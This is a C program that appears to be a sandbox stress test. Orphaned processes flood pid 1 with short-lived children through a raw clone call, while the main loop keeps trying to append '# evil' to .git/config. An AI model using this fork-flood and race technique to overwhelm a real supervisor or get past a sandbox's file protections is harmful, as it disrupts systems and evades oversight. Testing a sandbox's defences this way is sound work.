/* SPDX-License-Identifier: Apache-2.0
 *
 * usage: flood IDLE FORKING: an agent that keeps its pid 1 at work. IDLE orphans wait, so that each
 * waitpid(2) there goes through a long list, and FORKING others make and end children of that pid 1 (not
 * their own) without end. Meanwhile it tries to write .git/config, and makes the file `up` when all of it
 * goes on. It ends by itself after some seconds.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <stdnoreturn.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SECONDS = 10, TRY_US = 2000 };

static time_t now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec;
}

/* A child of pid 1's, that ends at once: without memory of its own, and without a stack, of which it needs
 * none, it is made and gone faster than pid 1 can wait for it. */
static long make_child(void)
{
	long rc;

#if defined(__x86_64__)
	__asm__ volatile("syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\t"
			 "mov $60, %%eax\n\txor %%edi, %%edi\n\tsyscall\n1:"
			 : "=a"(rc)
			 : "a"(SYS_clone), "D"(CLONE_VM | CLONE_PARENT | SIGCHLD), "S"(0), "d"(0)
			 : "rcx", "r8", "r10", "r11", "memory");
#else
	rc = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
	if (rc == 0)
		_exit(0);
#endif
	return rc;
}

noreturn static void fork_for_ever(void)
{
	for (;;)
		if (make_child() < 0)
			sched_yield();
}

/* Waits for its parent's end: it is a child of pid 1 then. */
static void become_orphan(pid_t parent)
{
	while (getppid() == parent)
		usleep(TRY_US);
}

static void make_orphans(int idle, int forking)
{
	pid_t parent = getpid();

	for (int i = 0; i < idle + forking; i++) {
		if (fork() != 0)
			continue;
		if (i < idle)
			for (;;)
				pause();
		become_orphan(parent);
		fork_for_ever();
	}
	_exit(0);
}

int main(int argc, char **argv)
{
	time_t end;

	if (argc != 3)
		return 2;
	if (fork() == 0)
		make_orphans(atoi(argv[1]), atoi(argv[2]));
	wait(NULL);
	sleep(2); /* time for zombies to gather */
	close(open("up", O_CREAT | O_WRONLY, 0644));
	end = now() + SECONDS;
	while (now() < end) {
		int fd = open(".git/config", O_WRONLY | O_APPEND);

		if (fd >= 0 && write(fd, "# evil\n", 7) == 7)
			close(fd);
		usleep(TRY_US);
	}
	return 0;
}
